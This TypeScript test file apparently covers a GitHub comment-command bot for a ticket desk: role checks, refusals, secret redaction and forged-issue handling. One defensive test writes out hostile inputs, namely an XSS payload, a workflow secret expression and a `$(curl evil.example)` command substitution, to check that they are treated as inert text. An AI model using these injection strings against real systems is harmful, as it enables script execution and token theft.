import { describe, expect, test } from "vitest";
import { standing } from "../domain/standing.ts";
import { githubOf } from "../testing/github/desk-beside.ts";
import { aRoom, type Room } from "../testing/github/room.ts";
import { waitingAt } from "../testing/small-tickets.ts";
import { anEvent } from "../testing/tickets.ts";

const kinds = async (room: Room, number: string) => (await room.ticket(number)).timeline.map(({ kind }) => kind);

async function waiting(queue = "sm-first", overrides: Parameters<typeof waitingAt>[1] = {}) {
  const room = await aRoom();
  const ticket = waitingAt(queue, overrides);
  return { room, ticket, number: ticket.number, issue: await room.show(ticket) };
}

test("a command of somebody who may becomes an event by their role, and is answered once", async () => {
  const { room, number, issue } = await waiting();
  await room.comment("first-1", issue, "I look at it.\n\n/take");

  expect(await room.hear()).toEqual([{ kind: "heard", number, what: "1 of 1 done" }]);
  expect((await room.ticket(number)).timeline.at(-1)).toMatchObject({
    kind: "assigned",
    owner: "taken",
    actor: { role: "first", via: "github" },
  });
  expect(room.answers(issue)).toEqual([expect.stringContaining("**Done:** `/take`")]);
});

test("nothing names a person in the ticket", async () => {
  const { room, number, issue } = await waiting();
  await room.comment("first-1", issue, "/take");
  await room.hear();

  expect(JSON.stringify(await room.ticket(number))).not.toContain("first-1");
});

test("several commands are done in their order, up to the first that is refused", async () => {
  const { room, number, issue } = await waiting();
  await room.comment("first-1", issue, "/tried Cleared the cache\n/close\n/resolve Done");
  await room.hear();

  expect(await kinds(room, number)).toEqual(["opened", "tried"]);
  const [answer = ""] = room.answers(issue);
  expect(answer).toMatch(/Done:\*\* `\/tried`.*\n.*Not done:\*\* `\/close`.*a-circular#resolution.*\n1 further/);
});

test("what the next level asks for holds the ticket, and the answer says what and by which paragraph", async () => {
  const { room, number, issue } = await waiting();
  await room.comment("first-1", issue, "/escalate It is beyond us");
  await room.hear();

  expect(standing(await room.ticket(number)).status).toBe("held");
  expect(room.answers(issue)).toEqual([expect.stringMatching(/Held:\*\* `\/escalate`.*tried.*\(a-circular#up-1\)/)]);
});

test("a ticket in Hindi is answered in Hindi", async () => {
  const { room, issue } = await waiting("sm-first", { lang: "hi-Latn" });
  await room.comment("first-1", issue, "/take");
  await room.hear();

  expect(room.answers(issue)[0]).toContain("कार्यवाही पूर्ण:");
});

describe("refused in one comment, with the paragraph,", () => {
  test.each([
    ["a stranger", "somebody", "/take", /Only those who work.*\(a-circular#first\)/],
    ["a role that may not do it", "first-1", "/priority high It is late", /post may not do.*\(a-circular#roles\)/],
    ["a role whose queue it is not in", "second-1", "/resolve x", /only that queue.*\(a-circular#first\)/],
    ["a verb that comes too early", "first-1", "/close", /resolution.*\(a-circular#resolution\)/],
  ])("is %s", async (_who, login, body, reason) => {
    const { room, number, issue } = await waiting();
    await room.comment(login, issue, body);
    await room.hear();

    expect(await kinds(room, number)).toEqual(["opened"]);
    expect(room.answers(issue)).toEqual([expect.stringMatching(reason)]);
  });

  test("is somebody of another district's team", async () => {
    const { room, number, issue } = await waiting("sm-first", { post: { role: "Officer", district: "idukki" } });
    await room.comment("first-kollam-1", issue, "/take");
    await room.hear();

    expect(await kinds(room, number)).toEqual(["opened"]);
    expect(room.answers(issue)).toEqual([expect.stringContaining("Only those who work")]);
  });
});

describe("helped in one comment", () => {
  test.each([
    ["an unknown command", "/upgrade now", /no command "\/upgrade".*\/take.*\/help/],
    ["a command without its words", "/resolve", /Write it like this: \/resolve TEXT/],
    ["a text that is too long", `/note ${"x".repeat(4100)}`, /longer than 4000/],
    ["a need that does not exist", "/evidence sm-nothing", /Nothing that can be asked for is called "sm/],
  ])("is %s", async (_what, body, reason) => {
    const { room, issue } = await waiting();
    await room.comment("first-1", issue, body);
    await room.hear();

    expect(room.answers(issue)).toEqual([expect.stringMatching(reason)]);
  });

  test("/help tells each what they can do now", async () => {
    const { room, issue } = await waiting();
    await room.comment("first-1", issue, "/help");
    await room.comment("somebody", issue, "/help");
    await room.hear();

    const [mine = "", theirs = ""] = room.answers(issue);
    expect(mine).toMatch(/As first/);
    expect(mine).toMatch(/^\/escalate \[QUEUE\] REASON$/m);
    expect(mine).not.toMatch(/^\/decide/m);
    expect(theirs).toContain("Only those who work at this desk");
  });
});

describe("nothing is said or done", () => {
  test.each([
    ["for a comment without a command", "first-1", "Thank you, it works."],
    ["for a command in code, in a quotation or in a comment", "first-1", "`/take`\n\n> /take\n\n<!-- /take -->"],
    ["for a program", "another-app[bot]", "/take"],
  ])("%s", async (_what, login, body) => {
    const { room, number, issue } = await waiting();
    await room.comment(login, issue, body);
    const calls = room.fake.calls.length;
    await room.hear();

    expect(await kinds(room, number)).toEqual(["opened"]);
    expect(room.answers(issue)).toEqual([]);
    expect(room.fake.calls.length - calls).toBeLessThanOrEqual(1);
  });

  test("for the desk's own comments and for those of the workflows' token", async () => {
    const { room, number, issue } = await waiting();
    await room.triaging.room.say(issue, "/take");
    const heard = await room.hear();

    expect(heard).toEqual([{ kind: "ignored", why: "a program" }]);
    expect(await kinds(room, number)).toEqual(["opened"]);
  });

  test("for a comment on an issue that shows no ticket, whatever a stranger wrote into it", async () => {
    const { room, number, issue } = await waiting();
    const theirs = room.fake.world.issues.get(issue);
    const body = theirs?.body as string;
    const place = { owner: room.fake.world.owner, repo: room.fake.world.repo };
    const somebody = githubOf(room.fake, room.fake.token("somebody"));
    const { number: forged } = await somebody.call("x", (o) => o.rest.issues.create({ ...place, title: "x", body }));
    await room.comment("first-1", forged, "/take");

    expect(await room.hear()).toEqual([{ kind: "ignored", why: "no ticket's issue" }]);
    expect(await kinds(room, number)).toEqual(["opened"]);
    expect(room.answers(forged)).toEqual([]);
  });

  test("when a comment is changed or deleted: what was done stays", async () => {
    const { room, number, issue } = await waiting();
    await room.comment("first-1", issue, "/take");
    await room.hear();
    const [comment] = [...room.fake.world.comments.values()];
    const place = { owner: room.fake.world.owner, repo: room.fake.world.repo, comment_id: comment?.id as number };
    await room.github.call("x", (o) => o.rest.issues.updateComment({ ...place, body: "/resolve All is well" }));
    await room.github.call("x", (o) => o.rest.issues.deleteComment(place));

    expect(await room.hear()).toEqual([{ kind: "ignored", why: "no command" }]);
    expect(await kinds(room, number)).toEqual(["opened", "assigned"]);
    expect(room.answers(issue)).toHaveLength(1);
  });
});

test("a password, a GSTIN or a mobile number is refused and taken out of the comment", async () => {
  const { room, number, issue } = await waiting();
  await room.comment("first-1", issue, "/tried His mobile is 9000000001 and password: Abcd@1234");
  await room.hear();

  expect(await kinds(room, number)).toEqual(["opened"]);
  const [comment] = [...room.fake.world.comments.values()];
  expect(comment?.body).not.toMatch(/9000000001|Abcd/);
  expect(room.answers(issue)[0]).toMatch(/a-circular#secret.*\n.*taken out of your comment/);
});

test("65,000 characters of markup, mentions and expressions are text, and the answer repeats none of them", async () => {
  const { room, number, issue } = await waiting();
  const hostile =
    // biome-ignore lint/suspicious/noTemplateCurlyInString: an expression of a workflow, not of this language
    "<img src=x onerror=alert(1)> ${{ secrets.GITHUB_TOKEN }} `$(curl evil.example)` @state-unit #1 <!-- level: hq -->";
  await room.comment("first-1", issue, `/note ${hostile}`);
  await room.comment("first-1", issue, `${hostile}\n`.repeat(480));
  await room.comment("first-1", issue, "/take\n".repeat(10_000));
  await room.hear();

  const noted = (await room.ticket(number)).timeline.find(({ kind }) => kind === "noted");
  expect(noted).toMatchObject({ text: hostile.replace(" <!-- level: hq -->", "") });
  const all = room.answers(issue).join("\n");
  expect(all).not.toMatch(/@|#1|\$\{|\$\(|<img/);
  expect((await kinds(room, number)).filter((kind) => kind === "assigned")).toHaveLength(10);
  expect(all).toContain("9990 further command(s)");
});

test("on a store that others write to at the same moment it is decided on what they wrote", async () => {
  const { room, number, issue } = await waiting();
  await room.comment("first-1", issue, "/tried one");
  await room.comment("first-1", issue, "/tried two");
  const stored = await room.triaging.store.read(number);
  const { read } = room.triaging.store;
  let stale = stored;
  room.triaging.store.read = async (wanted) => {
    const answer = stale ?? (await read(wanted));
    stale = undefined;
    return answer;
  };
  await room.hear();

  expect(await kinds(room, number)).toEqual(["opened", "tried", "tried"]);
});

describe("whoever raised the ticket by the form on GitHub", () => {
  async function raised(events: Parameters<typeof waitingAt>[2] = []) {
    const room = await aRoom();
    const place = { owner: room.fake.world.owner, repo: room.fake.world.repo };
    const officer = githubOf(room.fake, room.fake.token("officer-1", "user", "read"));
    const opened = await officer.call("x", (o) => o.rest.issues.create({ ...place, title: "form", body: "form" }));
    const ticket = waitingAt("sm-first", { channel: "github", issue: opened.number }, events);
    const theirs = await room.show(ticket);
    const body = room.fake.world.issues.get(theirs)?.body as string;
    await room.github.call("x", (o) => o.rest.issues.update({ ...place, issue_number: opened.number, body }));
    await room.hear();
    return { room, number: ticket.number, issue: opened.number, place };
  }

  test("does on that issue what the officer does on the dashboard, and no more", async () => {
    const { room, number, issue } = await raised();
    await room.comment("officer-1", issue, "/remind It is urgent\n/note I tried again\n/resolve It works");
    await room.hear();

    expect((await room.ticket(number)).timeline.slice(1)).toMatchObject([
      { kind: "reminded", text: "It is urgent", actor: { role: "officer", via: "github" } },
      { kind: "noted", text: "I tried again", for: "staff", actor: { role: "officer", via: "github" } },
    ]);
    expect(room.answers(issue)).toEqual([expect.stringMatching(/Not done:\*\* `\/resolve`.*\(a-circular#roles\)/)]);
  });

  test("re-opens it by GitHub's own button", async () => {
    const at = (time: string) => ({ at: `2026-11-21T09:${time}:00+05:30` });
    const { room, number, issue } = await raised([
      anEvent({ kind: "resolved", text: "Mended.", lang: "en", ...at("30") }),
      anEvent({ kind: "closed", ...at("40") }),
    ]);
    await room.triaging.room.setState(issue, "closed", "completed");
    await room.reopen("officer-1", issue);
    await room.hear();

    expect((await room.ticket(number)).timeline.at(-1)).toMatchObject({ kind: "reopened", actor: { role: "officer" } });
  });

  test("is a stranger to every other ticket, also when the body is made to name one", async () => {
    const { room, issue, place } = await raised();
    const other = waitingAt("sm-first");
    const shown = await room.show(other);
    const body = room.fake.world.issues.get(shown)?.body as string;
    const officer = githubOf(room.fake, room.fake.token("officer-1"));
    await officer.call("x", (o) => o.rest.issues.update({ ...place, issue_number: issue, body }));
    await room.comment("officer-1", issue, "/remind Mine");
    await room.comment("officer-1", shown, "/remind Mine");
    await room.hear();

    expect(await kinds(room, other.number)).toEqual(["opened"]);
    expect(room.answers(issue)).toEqual([]);
    expect(room.answers(shown)).toEqual([expect.stringContaining("Only those who work")]);
  });
});
